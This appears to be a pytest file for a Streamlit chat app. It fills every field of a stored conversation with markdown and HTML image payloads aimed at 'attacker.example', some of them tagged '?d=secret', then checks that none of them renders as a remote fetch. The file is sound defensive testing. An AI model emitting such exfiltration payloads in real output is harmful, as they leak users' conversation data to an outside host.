"""No page draws a remote image from untrusted text (AppTest, tiny random model, a SQLite file): a stored
conversation whose title, user and assistant text, thought, tool-call name, tool result pictures, error, document
names and picture names all carry `![x](http://attacker/...)` and friends is opened by its link, and every piece of
markdown the page sends to the browser (bodies, captions, alerts, toasts, and the labels of buttons, expanders and
status cards) is parsed: none holds an image with a remote URL."""

from __future__ import annotations

import io
from collections.abc import Iterator
from typing import Any

import pytest
from PIL import Image
from streamlit.testing.v1 import AppTest

from app.domain.conversation import Attachment, Message, ToolCall
from app.storage import ConversationStore, open_database
from tests.helpers import MAIN, open_app
from tests.unit.test_safe_markdown import fetched

FIELDS = ["title", "user", "caption", "document", "document-note", "unread-document", "thought", "answer", "tool",
          "plot", "source", "error"]


def payload(base: str, field: str) -> str:
    """Every way a markdown string can name a remote resource, pointing at `base`/`field`: images inline and by
    reference, autolinked image URLs, raw HTML that would fetch if Streamlit rendered it (it must not) and KaTeX's
    \\includegraphics (refused: Streamlit runs KaTeX without `trust`)."""
    url = f"{base}/{field}"
    return (f"{field}: ![x]({url}?d=secret) ![ref][{field}] <img src=\"{url}/html\"> {url}/autolink.png "
            f"<{url}/angle.png>\n\n[{field}]: {url}/ref\n\n"
            f'<link rel="stylesheet" href="{url}/link"><iframe src="{url}/iframe"></iframe>'
            f'<video poster="{url}/poster" src="{url}/video"></video><audio src="{url}/audio"></audio>'
            f'<video><source src="{url}/source"></video><style>@import url("{url}/import");</style>'
            f'<div style="background-image: url({url}/cssurl)">x</div>\n\n'
            f"Math: $\\includegraphics{{{url}/katex.png}}$ and $x$")


def one_line(base: str, field: str) -> str:
    """The same for a one-line field (a title, a file name)."""
    url = f"{base}/{field}"
    return f"{field} ![x]({url}?d=secret) <img src=\"{url}/html\"> {url}/autolink.png"


def png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, format="PNG")
    return buffer.getvalue()


def store_hostile_conversation(store: ConversationStore, base: str, page: str = "chat") -> str:
    """A conversation where every field that reaches the page carries an exfiltration payload; returns its id."""
    conversation_id = store.create("local", page, title=one_line(base, "title"))
    call = ToolCall(name=one_line(base, "tool"), arguments={"query": "x"}, id="call_1")
    messages = [
        Message(role="user", content=payload(base, "user"), attachments=[
            Attachment(kind="image", name=one_line(base, "caption"), data=png()),
            Attachment(kind="document", name=one_line(base, "document"), text="the document's text",
                       note=one_line(base, "document-note")),
            Attachment(kind="document", name=one_line(base, "unread-document"), note="not read: it is broken"),
        ]),
        Message(role="assistant", content=payload(base, "answer"), thinking=payload(base, "thought"),
                tool_calls=[call]),
        Message(role="tool", tool_call_id="call_1", tool_status="ok", duration_s=0.1,
                content=f"[1] {one_line(base, 'source')} (https://example.com/page)",
                attachments=[Attachment(kind="image", name=one_line(base, "plot"), data=png())]),
        Message(role="assistant", error=payload(base, "error")),
    ]
    for message in messages:
        store.append("local", conversation_id, message)
    return conversation_id


# Elements whose strings are shown as text, not markdown (st.code, st.text, widget values).
_NOT_MARKDOWN = {"Code", "Text", "TextInput", "TextArea", "ChatInput"}


def markdown_strings(element: Any) -> Iterator[tuple[str, str]]:
    """(where, string) for every string field of every element that Streamlit renders as markdown."""
    stack = [element]
    while stack:
        node = stack.pop()
        proto = getattr(node, "proto", None)
        if proto is not None and type(proto).__name__ not in _NOT_MARKDOWN:
            yield from _strings(proto, type(proto).__name__)
        children = getattr(node, "children", None)
        if isinstance(children, dict):
            stack.extend(children.values())


def _strings(message: Any, where: str) -> Iterator[tuple[str, str]]:
    for field, value in message.ListFields():
        name = f"{where}.{field.name}"
        if field.type == field.TYPE_STRING:
            for text in [value] if isinstance(value, str) else value:
                yield name, text
        elif field.type == field.TYPE_MESSAGE:
            for item in value if hasattr(value, "__len__") and not hasattr(value, "ListFields") else [value]:
                if type(item).__name__ not in _NOT_MARKDOWN:
                    yield from _strings(item, name)


@pytest.fixture
def database(monkeypatch, tmp_path) -> ConversationStore:
    url = f"sqlite:///{tmp_path / 'conversations.db'}"
    monkeypatch.setenv("DEMO_DATABASE_URL", url)
    return ConversationStore(open_database(url))


@pytest.mark.parametrize("page", ["chat", "tools", "all_tools"])
def test_no_field_of_a_stored_conversation_renders_a_remote_image(monkeypatch, tiny_model_dir, database, page):
    base = "http://attacker.example"
    conversation_id = store_hostile_conversation(database, base, page)
    with open_app(monkeypatch, tiny_model_dir):
        at = AppTest.from_file(MAIN, default_timeout=120)
        at.query_params["c"] = conversation_id
        at.run()
        assert not at.exception
        if page != "chat":
            at.switch_page(f"frontends/streamlit/views/{page}.py").run()
            at.query_params["c"] = conversation_id
            at.run()
        assert not at.exception
        shown = list(markdown_strings(at._tree))
        texts = "\n".join(text for _, text in shown)
        missing = [field for field in FIELDS if f"{base}/{field}" not in texts]
        assert missing == [], f"fields not drawn as markdown at all: {missing}"
        leaks = sorted({src.removeprefix(base + "/").split("?")[0].split("/")[0] for _, text in shown
                        for src in fetched(text)})
        assert leaks == [], f"fields drawn with a remote image: {leaks}"
